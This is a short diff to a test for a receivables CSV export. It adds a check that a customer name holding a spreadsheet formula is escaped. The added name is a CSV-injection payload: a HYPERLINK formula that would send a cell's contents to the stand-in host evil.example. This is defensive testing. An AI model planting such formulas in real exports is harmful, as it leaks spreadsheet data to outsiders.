@@ -124,6 +124,10 @@ def test_the_receivables_spreadsheet_puts_each_open_amount_in_its_age(session, b
     assert by_number[batch_invoice[second.id].number][-4] == open_second
     assert rows[-1][0] == "Total"
     assert len(BUCKETS) == 4
+    second.name = '=HYPERLINK("http://evil.example/?d="&A2;"Relevé")'
+    session.flush()
+    written = receivables_csv(session, date(2027, 2, 20), actor=received.lead).decode("utf-8-sig")
+    assert "'=HYPERLINK" in written and ";=HYPERLINK" not in written
     event = session.scalar(select(AuditEvent).where(AuditEvent.action == "books.receivables_csv"))
     assert event.user_id == received.lead.id
 
